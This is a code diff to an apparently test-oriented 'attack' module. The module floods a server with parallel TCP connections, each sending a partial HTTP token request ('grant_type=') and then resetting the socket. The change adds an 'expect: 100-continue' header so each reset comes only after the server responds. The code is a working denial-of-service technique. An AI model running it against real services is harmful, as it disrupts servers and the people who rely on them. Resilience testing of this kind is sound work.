@@ -15,9 +15,10 @@ export const attack: Attack = {
     await repeat(signal, AT_ONCE, async () => {
       const socket = connect(Number(port), hostname)
       socket.on('error', () => {})
-      await once(socket, 'connect', { signal })
-      socket.write(`${head}\r\ncontent-length: 500\r\n\r\ngrant_type=`, () => socket.resetAndDestroy())
-      await once(socket, 'close')
+      socket.write(`${head}\r\ncontent-length: 500\r\nexpect: 100-continue\r\n\r\ngrant_type=`)
+      // It was taken up: what is reset before only fills the queue of the system.
+      await once(socket, 'data', { signal })
+      socket.resetAndDestroy()
     })
   },
 }
